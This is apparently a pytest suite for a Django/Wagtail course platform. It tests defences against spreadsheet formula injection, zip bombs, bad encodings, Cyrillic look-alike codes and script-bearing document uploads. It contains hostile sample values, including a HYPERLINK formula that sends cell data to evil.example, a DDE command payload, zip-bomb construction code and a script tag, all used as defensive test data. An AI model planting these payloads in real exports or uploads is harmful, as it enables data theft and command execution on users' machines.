"""Hostile files and values: formulas in exports, zip bombs, bad encodings, look-alike letters,
HTML posing as a document. Each is refused with a clear message and nothing half-saved."""

import csv
import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from accounts.factories import UserFactory
from accounts.import_files import ImportFileRefused, import_file_read
from audit.api import AuditAction, audit_record
from config.spreadsheets import safe_cell
from courses.authoring import course_assign_trainer, ensure_course_workflow
from courses.factories import CoursePageFactory, course_index, course_with_lessons
from courses.models import Enrolment
from courses.selectors import course_of
from courses.services import enrolment_create
from institutions.models import ImportJob, Institution
from quizzes import factories as quiz_factories
from quizzes.services import attempt_save_responses, attempt_start, attempt_submit
from stats.models import ReportSubscription
from stats.services import subscription_report
from tests.accounts.import_samples import (
    INSTITUTION_HEADER,
    USER_HEADER,
    csv_upload,
    institution_row,
    user_row,
    xlsx_bytes,
)


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


# --- Formulas in exports -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+381 11 1234 x",
        "-2+3",
        "@SUM(A1:A3)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_like_text_is_kept_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Đorđe", "Ђорђе", "", "a=b", "-3", "+381", "-2.5", 42, None])
def test_ordinary_values_and_plain_numbers_are_left_alone(value):
    assert safe_cell(value) == value


# --- Formulas in the real exports: text cells in XLSX, an apostrophe in CSV -------------------

HOSTILE = '=HYPERLINK("http://x","y")'
STATS_URL = "/admin/stats/"


@pytest.fixture
def admin_in_english(settings, client):
    """The admin in English, so that names are shown as typed (not in Cyrillic)."""
    settings.WAGTAILADMIN_DEFAULT_LANGUAGE = "en"
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


def _content(response) -> bytes:
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def assert_text_as_typed(xlsx: bytes, value: str) -> None:
    """`value` is in the workbook as a text cell, exactly as typed; no cell anywhere is a
    formula or carries the CSV apostrophe. Read back without evaluating anything, so that a
    formula would come back as one."""
    book = load_workbook(io.BytesIO(xlsx))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    matches = [cell for cell in cells if cell.value == value]
    assert matches, f"{value!r} is not in the workbook"
    assert all(cell.data_type == "s" for cell in matches)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if str(cell.value).startswith("'")]


@pytest.fixture
def hostile_ministry(tree):
    ministry = tree["ministry"]
    ministry.name_sr = ministry.name_en = HOSTILE
    ministry.save()
    return ministry


@pytest.mark.django_db
def test_stats_xlsx_keeps_a_hostile_institution_name_as_typed(
    client, mfa_login, administrator, hostile_ministry, admin_in_english
):
    mfa_login(client, administrator)
    response = client.get(STATS_URL, {"view": "institution", "export": "xlsx"})
    assert_text_as_typed(_content(response), HOSTILE)
    # The figures stay numbers.
    sheet = load_workbook(io.BytesIO(response.content)).active
    [row] = [r for r in sheet.iter_rows() if r[0].value == HOSTILE]
    assert row[2].value == 0 and row[2].data_type == "n"


@pytest.mark.django_db
def test_stats_csv_puts_an_apostrophe_before_a_hostile_institution_name(
    client, mfa_login, administrator, hostile_ministry, admin_in_english
):
    mfa_login(client, administrator)
    response = client.get(STATS_URL, {"view": "institution", "export": "csv"})
    rows = list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert ["'" + HOSTILE, "MUP"] in [row[:2] for row in rows]
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.django_db
def test_stats_people_xlsx_keeps_a_hostile_person_name_as_typed(
    client, mfa_login, administrator, tree, admin_in_english
):
    course = CoursePageFactory()
    UserFactory(institution=tree["station_bg"], first_name=HOSTILE, last_name="")
    mfa_login(client, administrator)
    response = client.get(STATS_URL, {"view": "people", "course": course.pk, "export": "xlsx"})
    assert_text_as_typed(_content(response), HOSTILE)


@pytest.mark.django_db
def test_scheduled_stats_report_keeps_a_hostile_institution_name_as_typed(
    administrator, hostile_ministry
):
    subscription = ReportSubscription.objects.create(
        user=administrator, frequency="monthly", view="institution"
    )
    xlsx = subscription_report(
        subscription, start=datetime.date(2026, 1, 1), end=datetime.date(2026, 1, 31)
    )
    assert_text_as_typed(xlsx, HOSTILE)


@pytest.fixture
def hostile_quiz(trainer, learner):
    """A quiz whose question is named like a formula, taken once."""
    ensure_course_workflow()
    question = quiz_factories.single_choice(name=HOSTILE)
    quiz = quiz_factories.quiz_in_course(questions=[question])
    course = course_of(quiz)
    course_assign_trainer(course=course, user=trainer)
    enrolment_create(user=learner, course=course)
    attempt = attempt_start(user=learner, quiz=quiz)
    attempt_save_responses(
        attempt=attempt, responses={aq.pk: None for aq in attempt.questions.all()}
    )
    attempt_submit(attempt=attempt)
    return quiz


@pytest.mark.django_db
def test_quiz_statistics_xlsx_keeps_a_hostile_question_name_as_typed(
    client, mfa_login, trainer, hostile_quiz, admin_in_english
):
    mfa_login(client, trainer)
    url = reverse("quizzes_admin:statistics", args=[hostile_quiz.pk])
    assert_text_as_typed(_content(client.get(url + "?export=xlsx")), HOSTILE)


@pytest.mark.django_db
def test_quiz_statistics_csv_puts_an_apostrophe_before_a_hostile_question_name(
    client, mfa_login, trainer, hostile_quiz, admin_in_english
):
    mfa_login(client, trainer)
    url = reverse("quizzes_admin:statistics", args=[hostile_quiz.pk])
    rows = list(csv.reader(io.StringIO(_content(client.get(url + "?export=csv")).decode())))
    assert rows[1][0] == "'" + HOSTILE


@pytest.mark.django_db
def test_course_progress_xlsx_keeps_a_hostile_learner_name_as_typed(
    client, mfa_login, trainer, tree, admin_in_english
):
    course_index()
    ensure_course_workflow()
    course = course_with_lessons(modules=1, lessons=1)
    course_assign_trainer(course=course, user=trainer)
    sly = UserFactory(institution=tree["station_bg"], first_name=HOSTILE, last_name="")
    enrolment_create(user=sly, course=course)
    mfa_login(client, trainer)
    response = client.get(f"/admin/reports/course-progress/{course.pk}/?export=xlsx")
    assert_text_as_typed(_content(response), HOSTILE)


@pytest.mark.django_db
def test_audit_log_xlsx_keeps_a_hostile_name_as_typed(
    client, mfa_login, administrator, learner, admin_in_english
):
    learner.first_name, learner.last_name = HOSTILE, ""
    learner.save()
    audit_record(action=AuditAction.LOGIN_FAILED, target=learner)
    mfa_login(client, administrator)
    response = client.get("/admin/audit/?export=xlsx&action=login_failed")
    assert_text_as_typed(_content(response), HOSTILE)


# --- Imports: zip bombs, look-alike letters, half-saved files ----------------------------------


def _read(data: bytes, name: str, kind="institutions"):
    return import_file_read(file=io.BytesIO(data), name=name, size=len(data), kind=kind)


def test_a_real_xlsx_zip_bomb_is_refused_before_it_is_unpacked():
    """60 MB of one repeated byte squeezes into a few dozen KB: refused from its directory."""
    good = xlsx_bytes([INSTITUTION_HEADER])
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for entry in source.infolist():
            bomb.writestr(entry, source.read(entry))
        with bomb.open("xl/padding.bin", "w") as padding:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(60):
                padding.write(chunk)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    with pytest.raises(ImportFileRefused, match="unpacks to more than"):
        _read(data, "institutions.xlsx")


def test_a_zip_of_many_small_entries_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(1_001):
            archive.writestr(f"xl/{number}.xml", "")
    with pytest.raises(ImportFileRefused, match="unpacks to more than"):
        _read(buffer.getvalue(), "institutions.xlsx")


def test_a_csv_renamed_xlsx_is_refused_as_not_a_workbook():
    with pytest.raises(ImportFileRefused, match="not a valid Excel workbook"):
        _read(b"code,parent_code\nA,B\n", "institutions.xlsx")


def test_utf16_file_is_refused_as_not_utf8():
    data = "code,parent_code,name_sr,name_en,kind\n".encode("utf-16")
    with pytest.raises(ImportFileRefused, match="not valid UTF-8"):
        _read(data, "institutions.csv")


@pytest.mark.django_db
def test_cyrillic_look_alike_code_does_not_match_the_latin_institution(
    client, mfa_login, administrator, tree, settings, tmp_path
):
    """ "РU-BG" with a Cyrillic Р looks like PU-BG; the import must not file people there."""
    settings.MEDIA_ROOT = tmp_path
    mfa_login(client, administrator)
    upload = csv_upload(
        [
            USER_HEADER,
            user_row("marko@example.org", "PU-BG"),
            user_row("ana@example.org", "\u0420U-BG"),
        ]
    )
    response = client.post("/en/manage/import/", {"kind": "users", "file": upload})
    from accounts.models import User

    if response.status_code == 302:  # checked by a background job
        job = ImportJob.objects.get()
        assert job.status == "failed"
        assert [e["line"] for e in job.row_errors] == [3]
    else:  # checked at once, shown with the form
        html = response.content.decode()
        assert response.status_code == 200
        assert "\u0420U-BG" in html

    assert not User.objects.filter(email__in=["marko@example.org", "ana@example.org"]).exists()


@pytest.mark.django_db
def test_mixed_script_file_keeps_each_name_in_its_own_script(
    client, mfa_login, administrator, tree, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    mfa_login(client, administrator)
    upload = csv_upload(
        [
            INSTITUTION_HEADER,
            institution_row("PS-BG-7", "PU-BG", name="Станица Звездара"),
            institution_row("PS-BG-8", "PU-BG", name="Stanica Čukarica"),
        ],
        bom=True,
    )
    client.post("/en/manage/import/", {"kind": "institutions", "file": upload})
    names = dict(
        Institution.objects.filter(code__startswith="PS-BG-").values_list("code", "name_sr")
    )
    assert names["PS-BG-7"] == "Станица Звездара"
    assert names["PS-BG-8"] == "Stanica Čukarica"


# --- The enrolment upload ------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("people.csv", b"email\n" + b"a@example.org\n" * 200_000, "larger than 2 MB"),
        ("people.xlsx", b"PK\x03\x04 not a csv", "Upload a .csv file."),
        ("people.csv", "email\nana@example.org\n".encode("utf-16"), "not valid UTF-8"),
    ],
)
def test_bad_enrolment_files_are_refused_and_nobody_is_enrolled(
    client, mfa_login, manager_bg, learner, name, data, message
):
    course = course_with_lessons(modules=1, lessons=1)
    mfa_login(client, manager_bg)
    upload = SimpleUploadedFile(name, data, content_type="text/csv")
    response = client.post("/en/manage/enrolments/", {"course": course.pk, "file": upload})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Enrolment.objects.exists()


# --- Documents: HTML posing as a document would run as our origin ----------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["notes.html", "notes.svg", "run.exe", "notes.pdf.html"])
def test_documents_that_a_browser_would_run_are_refused(client, mfa_login, administrator, name):
    from wagtail.documents import get_document_model

    mfa_login(client, administrator)
    upload = SimpleUploadedFile(name, b"<script>alert(1)</script>", content_type="text/html")
    response = client.post("/admin/documents/add/", {"title": "Notes", "file": upload})
    assert response.status_code == 200  # the form again, with the error
    assert not get_document_model().objects.exists()
